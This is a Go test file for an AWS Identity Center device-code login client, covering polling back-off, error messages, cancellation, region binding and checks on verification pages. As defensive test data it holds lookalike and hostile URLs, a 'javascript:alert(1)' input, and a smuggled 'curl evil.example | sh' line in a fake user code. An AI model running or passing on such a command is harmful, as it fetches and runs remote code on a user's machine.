package idcenter

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/dbxaccess/dbxaccess/internal/httpclient"
	"github.com/dbxaccess/dbxaccess/internal/login"
	"github.com/dbxaccess/dbxaccess/internal/login/logintest"
	"github.com/dbxaccess/dbxaccess/internal/ui"
)

func TestSigningInAtIdentityCenter(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		f := newFixture(t)
		began := time.Now()
		var asked []time.Duration
		f.center.Answer = func(operation string, _ map[string]any) *logintest.Reply {
			if operation != "token" {
				return nil
			}
			asked = append(asked, time.Since(began))
			answers := []logintest.Reply{
				logintest.AWSError(400, "AuthorizationPendingException"), logintest.AWSError(400, "SlowDownException"),
				logintest.AWSError(400, "AuthorizationPendingException"), {Status: 502, Body: "<html>"},
			}
			if len(asked) <= len(answers) {
				return &answers[len(asked)-1]
			}
			return nil
		}
		made, err := f.sessions.SignIn(t.Context(), testProvider(), logintest.ByCode(func(code *login.DeviceCode) {
			if code.UserCode != "ABCD-EFGH" || code.Host != "acme.awsapps.com" || code.RefusedHost != "" ||
				code.VerificationURIComplete != "https://acme.awsapps.com/start/#/device?user_code=ABCD-EFGH" ||
				!code.Expires.Equal(began.Add(10*time.Minute)) {
				t.Errorf("got %+v", code)
			}
		}))
		if err != nil {
			t.Fatal(err)
		}
		// 1 s, then 1 s more, then 5 s longer for good, and twice that after trouble.
		if want := []time.Duration{1, 2, 8, 14, 26}; !slices.EqualFunc(asked, want, func(a, w time.Duration) bool { return a == w*time.Second }) {
			t.Errorf("asked at %s", asked)
		}
		want := []string{logintest.Account + "/Analyst", logintest.Account + "/MLAdmin", logintest.OtherAccount + "/Reader"}
		if !slices.Equal(made.Groups, want) || !made.GroupsPresent || made.Subject != "" || !made.IDTokenExpires.Equal(time.Now().Add(time.Hour)) {
			t.Errorf("got %+v", made)
		}
		if n := f.center.Count("roles"); n != 2 {
			t.Errorf("asked for %d accounts, of which 2 are in the map and assigned", n)
		}
		made.Subject = "AROA1:alice"
		if err := f.sessions.Save(t.Context(), testProvider(), made); err != nil {
			t.Fatal(err)
		}
		stored := f.stored()
		if stored.ID != made.ID || stored.AccessToken.Reveal() != "canary-a1" || stored.RefreshToken.Reveal() != "canary-r1" ||
			!stored.IDToken.IsZero() || stored.Registration.ClientID != "c1" || stored.Subject != "AROA1:alice" || !slices.Equal(stored.Groups, want) {
			t.Errorf("stored %+v", stored)
		}
		if ends, known := stored.EndsAt(); known {
			t.Errorf("nobody says when it ends, but it does at %s", ends)
		}
		if session, err := f.fresh(); err != nil || session.ID != made.ID {
			t.Errorf("it is fresh: %v", err)
		}
	})
}

func TestHowPollingIdentityCenterEnds(t *testing.T) {
	for name, c := range map[string]struct {
		answer logintest.Reply
		code   ui.Code
		words  []string
	}{
		"a denial":              {logintest.AWSError(400, "AccessDeniedException"), ui.Refused, []string{"declined at acme.awsapps.com", "dbxaccess login --identity corp"}},
		"an expired code":       {logintest.AWSError(400, "ExpiredTokenException"), ui.LoginNeeded, []string{"nobody approved", "dbxaccess login --identity corp"}},
		"a forgotten client":    {logintest.AWSError(401, "InvalidClientException"), ui.LoginNeeded, []string{"no longer knows this program"}},
		"something unknown":     {logintest.AWSError(400, "InvalidRequestException"), ui.Refused, []string{"InvalidRequestException", "sso_region"}},
		"nothing but waiting":   {logintest.AWSError(400, "AuthorizationPendingException"), ui.LoginNeeded, []string{"nobody approved"}},
		"nothing but trouble":   {logintest.Reply{Err: logintest.ErrConnectionLost}, ui.LoginNeeded, []string{"nobody approved", "connection reset"}},
		"nothing but a gateway": {logintest.Reply{Status: 503, Body: "<html>"}, ui.LoginNeeded, []string{"nobody approved", "503"}},
		"a redirect":            {logintest.Reply{Err: &httpclient.RedirectError{Host: "oidc"}}, ui.Failed, []string{"redirect"}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				f := newFixture(t)
				code, err := f.client.startDevice(t.Context(), testProvider())
				if err != nil {
					t.Fatal(err)
				}
				f.center.Answer = func(string, map[string]any) *logintest.Reply { return &c.answer }
				_, err = f.client.pollDevice(t.Context(), testProvider(), code)
				logintest.WantFault(t, err, c.code, c.words...)
				if strings.Contains(err.Error(), "canary") || time.Now().After(code.Expires.Add(time.Second)) {
					t.Errorf("%s after its end: %v", time.Since(code.Expires), err)
				}
				_, kept := f.store.Items[registrationKey(testProvider(), deviceFlow)]
				if forgotten := name == "a forgotten client"; kept == forgotten {
					t.Errorf("the registration is kept: %v", kept)
				}
			})
		})
	}
}

func TestCtrlCWhilePollingIdentityCenter(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		f := newFixture(t)
		code, err := f.client.startDevice(t.Context(), testProvider())
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(t.Context())
		f.center.Answer = func(string, map[string]any) *logintest.Reply {
			cancel()
			return &logintest.Reply{Delay: time.Minute}
		}
		if _, err = f.client.pollDevice(ctx, testProvider(), code); ui.CodeOf(err) != ui.Interrupted || !errors.Is(err, context.Canceled) {
			t.Errorf("got %v", err)
		}
	})
}

func TestWherePeopleMayTypeTheirCode(t *testing.T) {
	t.Parallel()
	for raw, want := range map[string]bool{
		"https://acme.awsapps.com/start/#/device":                       true,
		"https://d-1234567890.awsapps.com/start/#/device?user_code=A-B": true,
		"https://device.sso.us-east-1.amazonaws.com/?user_code=A-B":     true,
		"https://ssoins-12.us-east-1.portal.amazonaws.com/#/device":     true,
		"https://ssoins-12.portal.us-east-1.app.aws/#/device":           true,
		"https://us-east-1.signin.aws/platform/authorize":               true,
		"https://DEVICE.SSO.us-east-1.amazonaws.com/":                   true,
		"https://device.sso.eu-west-1.amazonaws.com/":                   false,
		"https://device.sso.us-east-1.amazonaws.com.evil.example/":      false,
		"https://device.sso.us-east-1.amazonaws.com:8443/":              false,
		"http://device.sso.us-east-1.amazonaws.com/":                    false,
		"https://bucket.s3.amazonaws.com/":                              false,
		"https://a.b.awsapps.com/start/":                                false,
		"https://awsapps.com/start/":                                    false,
		"https://evilawsapps.com/start/":                                false,
		"https://evil.us-east-1.portal.amazonaws.com/":                  false,
		"https://evil.signin.aws/":                                      false,
		"https://user@acme.awsapps.com/start/":                          false,
		"https://evil.example/":                                         false,
		"javascript:alert(1)":                                           false,
		"":                                                              false,
	} {
		page, err := checkPage(testProvider(), raw)
		if (err == nil) != want {
			t.Errorf("%q: %+v, %v", raw, page, err)
		}
	}
}

func TestAHostilePageIsNamedAndNotShown(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	answer := map[string]any{"deviceCode": "x", "userCode": "ABCD-EFGH", "verificationUri": "https://evil.example/"}
	f.center.Answer = func(operation string, _ map[string]any) *logintest.Reply {
		if operation != "device" {
			return nil
		}
		r := logintest.JSON(200, answer)
		return &r
	}
	_, err := f.client.startDevice(t.Context(), testProvider())
	logintest.WantFault(t, err, ui.Failed, "evil.example", "not opened")
	answer["verificationUri"], answer["verificationUriComplete"] = "https://acme.awsapps.com/start/#/device", "https://evil.example/?user_code=A"
	code, err := f.client.startDevice(t.Context(), testProvider())
	if err != nil || code.RefusedHost != "evil.example" || code.VerificationURIComplete != "" {
		t.Errorf("got %+v, %v", code, err)
	}
	answer["userCode"] = "1  Also run: curl evil.example | sh"
	_, err = f.client.startDevice(t.Context(), testProvider())
	logintest.WantFault(t, err, ui.Failed, "is no code")
}

func TestATokenOfIdentityCenterStaysInItsRegion(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	made := f.signIn()
	elsewhere := testProvider()
	elsewhere.SSORegion = "ap-southeast-2"
	f.center.Ops = nil
	_, err := f.sessions.Load(t.Context(), elsewhere)
	logintest.WantFault(t, err, ui.LoginNeeded, "us-east-1", "ap-southeast-2", "dbxaccess login --identity corp")
	if ui.IDOf(err) != "session-of-other-region" {
		t.Errorf("%s: %v", ui.IDOf(err), err)
	}
	for name, ask := range map[string]func() (*login.Session, error){
		"Fresh": func() (*login.Session, error) {
			return logintest.Fresh(t.Context(), f.sessions, elsewhere, time.Minute)
		},
		"Renew": func() (*login.Session, error) { return f.sessions.Renew(t.Context(), elsewhere, made) },
		"While": func() (found *login.Session, err error) {
			err = f.sessions.While(t.Context(), elsewhere, func(s *login.Session) error { found = s; return nil })
			return found, err
		},
	} {
		if session, err := ask(); session != nil || err != nil && ui.CodeOf(err) != ui.LoginNeeded {
			t.Errorf("%s: %+v, %v", name, session, err)
		}
	}
	if len(f.center.Ops) != 0 {
		t.Errorf("did %v", f.center.Ops)
	}
	if all, err := login.All(t.Context(), f.store); err != nil || len(all) != 1 || all[0].SSORegion != "us-east-1" {
		t.Errorf("All lists it: %v, %v", all, err)
	}
	// Who no longer has it in the map names no region.
	if session, err := f.sessions.Load(t.Context(), login.Provider{Issuer: elsewhere.Issuer}); err != nil || session.SSORegion != "us-east-1" {
		t.Errorf("got %+v, %v", session, err)
	}
	told, err := f.sessions.Delete(t.Context(), elsewhere, logintest.NothingElse)
	if !told || err != nil || f.center.Bearer != "canary-a1" || f.center.Host != "portal.sso.us-east-1.amazonaws.com" {
		t.Errorf("signed out %v, at %s with %s: %v", told, f.center.Host, f.center.Bearer, err)
	}
	if _, there := f.store.Items[login.SessionKey(elsewhere)]; there {
		t.Error("it is still stored")
	}
}
